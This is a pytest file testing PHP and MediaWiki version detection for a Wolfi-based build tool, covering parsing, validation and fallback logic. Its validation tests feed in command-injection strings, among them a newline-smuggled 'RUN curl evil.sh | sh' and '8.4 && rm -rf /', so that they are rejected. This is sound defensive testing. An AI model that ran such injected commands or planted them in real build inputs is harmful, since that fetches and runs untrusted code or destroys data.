"""Tests for PHP and MediaWiki version detection."""

import io
import subprocess
import tarfile
from pathlib import Path
from unittest.mock import MagicMock, patch

import httpx
import pytest

from wolfi_mediawiki.config import VersionSourceConfig
from wolfi_mediawiki.errors import PipelineError, RuntimeUnavailableError
from wolfi_mediawiki.versions import (
    DEFAULT_MEDIAWIKI_MAJOR_VERSION,
    DEFAULT_MEDIAWIKI_VERSION,
    DEFAULT_PHP_VERSION,
    VersionResolver,
    VersionSet,
    latest_version,
    major_of,
    parse_apk_search,
    parse_apkindex,
    parse_release_majors,
    parse_release_tarballs,
    read_version_file,
    write_version_file,
)

SOURCES = VersionSourceConfig()
RELEASES = SOURCES.releases_url

APKINDEX_TEXT = """\
C:Q1abc=
P:php-8.2
V:8.2.28-r0

C:Q1def=
P:php-8.4
V:8.4.5-r0

C:Q1ghi=
P:php-8.4-fpm
V:8.4.5-r0

C:Q1jkl=
P:php-8.3
V:8.3.19-r1
"""

MAJORS_HTML = """
<a href="../">../</a>
<a href="1.41/">1.41/</a>
<a href="1.42/">1.42/</a>
<a href="1.44/">1.44/</a>
<a href="1.9/">1.9/</a>
"""

TARBALLS_HTML = """
<a href="mediawiki-1.44.0.tar.gz">mediawiki-1.44.0.tar.gz</a>
<a href="mediawiki-1.44.0.tar.gz.sig">mediawiki-1.44.0.tar.gz.sig</a>
<a href="mediawiki-1.44.2.tar.gz">mediawiki-1.44.2.tar.gz</a>
<a href="mediawiki-1.44.10.tar.gz">mediawiki-1.44.10.tar.gz</a>
<a href="mediawiki-core-1.44.11.tar.gz">mediawiki-core-1.44.11.tar.gz</a>
"""


def _apkindex_archive(text: str) -> bytes:
    data = text.encode()
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as archive:
        info = tarfile.TarInfo("APKINDEX")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _client(routes: dict) -> httpx.Client:
    """HTTP client answering from *routes*; unknown URLs get a connection error."""

    def handler(request: httpx.Request) -> httpx.Response:
        url = str(request.url)
        if url not in routes:
            raise httpx.ConnectError("unreachable", request=request)
        status, body = routes[url]
        if isinstance(body, bytes):
            return httpx.Response(status, content=body)
        return httpx.Response(status, text=body)

    return httpx.Client(transport=httpx.MockTransport(handler))


ALL_ROUTES = {
    SOURCES.apk_index_url: (200, _apkindex_archive(APKINDEX_TEXT)),
    RELEASES: (200, MAJORS_HTML),
    RELEASES + "1.44/": (200, TARBALLS_HTML),
}


# ============================================================================
# Parsing helpers
# ============================================================================

class TestParsing:
    def test_latest_version_is_numeric(self):
        assert latest_version(["8.4", "8.10", "8.9"]) == "8.10"
        assert latest_version(["1.43.9", "1.43.10"]) == "1.43.10"

    def test_latest_version_empty(self):
        assert latest_version([]) is None
        assert latest_version(["", "  "]) is None

    def test_major_of(self):
        assert major_of("1.43.0") == "1.43"
        assert major_of("1.43") == "1.43"
        with pytest.raises(ValueError):
            major_of("latest")

    def test_parse_apkindex_archive(self):
        assert sorted(parse_apkindex(_apkindex_archive(APKINDEX_TEXT))) == ["8.2", "8.3", "8.4"]

    def test_parse_apkindex_plain_text(self):
        assert sorted(parse_apkindex(APKINDEX_TEXT.encode())) == ["8.2", "8.3", "8.4"]

    def test_parse_apk_search_skips_subpackages(self):
        output = "php-8.3-8.3.19-r1\nphp-8.4-8.4.5-r0\nphp-8.4-fpm-8.4.5-r0\nphpmyadmin-5.2-r0\n"
        assert parse_apk_search(output) == ["8.3", "8.4"]

    def test_parse_release_listings(self):
        assert parse_release_majors(MAJORS_HTML) == ["1.41", "1.42", "1.44", "1.9"]
        assert parse_release_tarballs(TARBALLS_HTML, "1.44") == ["1.44.0", "1.44.2", "1.44.10"]
        assert parse_release_tarballs(TARBALLS_HTML, "1.4") == []


# ============================================================================
# VersionSet
# ============================================================================

class TestVersionSet:
    def test_major_must_prefix_full_version(self):
        with pytest.raises(ValueError):
            VersionSet("8.4", "1.43.0", "1.42")

    @pytest.mark.parametrize("mediawiki_version", ["1.43", "1.43.0 junk", "1.43.0\nRUN curl evil.sh | sh", "v1.43.0", ""])
    def test_rejects_malformed_mediawiki_version(self, mediawiki_version):
        with pytest.raises(ValueError):
            VersionSet("8.4", mediawiki_version, "1.43")

    @pytest.mark.parametrize("php_version", ["8.4; x", "8.4 && rm -rf /", "8", "8.4.5", "8.4\n", ""])
    def test_rejects_malformed_php_version(self, php_version):
        with pytest.raises(ValueError):
            VersionSet(php_version, "1.43.0", "1.43")

    def test_rejects_malformed_major_version(self):
        with pytest.raises(ValueError):
            VersionSet("8.4", "1.43.0", "1.43 ")

    def test_from_mediawiki_requires_patch_level(self):
        with pytest.raises(ValueError):
            VersionSet.from_mediawiki("8.4", "1.43")

    def test_from_mediawiki_derives_major(self):
        vs = VersionSet.from_mediawiki("8.3", "1.42.3")
        assert vs.mediawiki_major_version == "1.42"

    def test_defaults(self):
        vs = VersionSet.defaults()
        assert (vs.php_version, vs.mediawiki_version, vs.mediawiki_major_version) == ("8.4", "1.43.0", "1.43")

    def test_version_file(self, tmp_path: Path, version_set):
        path = write_version_file(version_set, tmp_path / "out" / "version_info.env")
        assert path.read_text() == (
            "PHP_VERSION=8.4\nMEDIAWIKI_VERSION=1.43.0\nMEDIAWIKI_MAJOR_VERSION=1.43\n"
        )
        assert read_version_file(path) == version_set

    def test_version_file_missing_key(self, tmp_path: Path):
        path = tmp_path / "version_info.env"
        path.write_text("PHP_VERSION=8.4\n")
        with pytest.raises(PipelineError, match="MEDIAWIKI_VERSION"):
            read_version_file(path)


# ============================================================================
# VersionResolver
# ============================================================================

class TestVersionResolver:
    def test_resolves_from_primary_sources(self):
        resolver = VersionResolver(SOURCES, client=_client(ALL_ROUTES))
        vs = resolver.resolve()
        assert vs == VersionSet("8.4", "1.44.10", "1.44")

    @patch("wolfi_mediawiki.versions.subprocess.run", side_effect=FileNotFoundError("wget"))
    def test_all_sources_unreachable_returns_defaults(self, mock_run):
        resolver = VersionResolver(SOURCES, client=_client({}))
        vs = resolver.resolve()
        assert vs.php_version == DEFAULT_PHP_VERSION
        assert vs.mediawiki_version == DEFAULT_MEDIAWIKI_VERSION
        assert vs.mediawiki_major_version == DEFAULT_MEDIAWIKI_MAJOR_VERSION

    @patch("wolfi_mediawiki.versions.subprocess.run")
    def test_garbage_responses_return_defaults(self, mock_run):
        mock_run.return_value = MagicMock(returncode=0, stdout="<html>nothing here</html>", stderr="")
        routes = {
            SOURCES.apk_index_url: (200, b"not an index"),
            RELEASES: (200, "<html>maintenance</html>"),
        }
        vs = VersionResolver(SOURCES, client=_client(routes)).resolve()
        assert vs == VersionSet.defaults()

    @patch("wolfi_mediawiki.versions.subprocess.run")
    def test_server_errors_fall_back_to_wget(self, mock_run):
        pages = {RELEASES: MAJORS_HTML, RELEASES + "1.44/": TARBALLS_HTML}
        mock_run.side_effect = lambda cmd, **kw: MagicMock(returncode=0, stdout=pages[cmd[-1]], stderr="")
        routes = {
            SOURCES.apk_index_url: (200, _apkindex_archive(APKINDEX_TEXT)),
            RELEASES: (503, "unavailable"),
            RELEASES + "1.44/": (503, "unavailable"),
        }
        vs = VersionResolver(SOURCES, client=_client(routes)).resolve()
        assert vs.mediawiki_version == "1.44.10"
        wget_calls = [c.args[0] for c in mock_run.call_args_list]
        assert wget_calls == [["wget", "-qO-", RELEASES], ["wget", "-qO-", RELEASES + "1.44/"]]

    @patch("wolfi_mediawiki.versions.subprocess.run")
    def test_wget_timeout_uses_defaults(self, mock_run):
        mock_run.side_effect = subprocess.TimeoutExpired(cmd="wget", timeout=30)
        resolver = VersionResolver(SOURCES, client=_client({}))
        assert resolver.resolve_mediawiki_major() == DEFAULT_MEDIAWIKI_MAJOR_VERSION

    @patch("wolfi_mediawiki.versions.subprocess.run", side_effect=FileNotFoundError("wget"))
    def test_full_version_falls_back_to_dot_zero(self, mock_run):
        routes = {RELEASES: (200, MAJORS_HTML)}
        resolver = VersionResolver(SOURCES, client=_client(routes))
        assert resolver.resolve_mediawiki("1.44") == "1.44.0"

    def test_php_falls_back_to_apk_search(self, fake_runtime):
        fake_runtime.apk_search_output = "php-8.3-8.3.19-r1\nphp-8.5-8.5.0-r0\nphp-8.5-gd-8.5.0-r0\n"
        resolver = VersionResolver(SOURCES, client=_client({}), runtime=fake_runtime)
        assert resolver.resolve_php() == "8.5"
        (call,) = fake_runtime.called("run_once")
        assert call[1] == SOURCES.probe_image
        assert "apk search php" in call[2][-1]

    def test_apk_search_without_runtime_binary(self, fake_runtime):
        fake_runtime.run_once = MagicMock(side_effect=RuntimeUnavailableError("docker executable not found"))
        resolver = VersionResolver(SOURCES, client=_client({}), runtime=fake_runtime)
        assert resolver.resolve_php() == DEFAULT_PHP_VERSION

    def test_pinned_versions_skip_lookups(self):
        sources = VersionSourceConfig(php_version="8.2", mediawiki_version="1.39.11")
        vs = VersionResolver(sources, client=_client({})).resolve()
        assert vs == VersionSet("8.2", "1.39.11", "1.39")

    def test_pinned_major_only(self):
        sources = VersionSourceConfig(mediawiki_major_version="1.44")
        vs = VersionResolver(sources, client=_client(ALL_ROUTES)).resolve()
        assert vs.mediawiki_version == "1.44.10"

    def test_inconsistent_pins_use_default_mediawiki(self):
        sources = VersionSourceConfig(
            php_version="8.4", mediawiki_version="1.42.1", mediawiki_major_version="1.43"
        )
        vs = VersionResolver(sources, client=_client({})).resolve()
        assert vs == VersionSet.defaults()

    def test_malformed_php_pin_returns_defaults(self):
        sources = VersionSourceConfig(php_version="8.4; x", mediawiki_version="1.42.1")
        assert VersionResolver(sources, client=_client({})).resolve() == VersionSet.defaults()

    def test_unexpected_error_returns_defaults(self):
        resolver = VersionResolver(SOURCES, client=_client({}))
        with patch.object(resolver, "resolve_php", side_effect=RuntimeError("boom")):
            assert resolver.resolve() == VersionSet.defaults()

    def test_resolved_major_always_prefixes_full(self):
        vs = VersionResolver(SOURCES, client=_client(ALL_ROUTES)).resolve()
        assert vs.mediawiki_version.startswith(vs.mediawiki_major_version + ".")
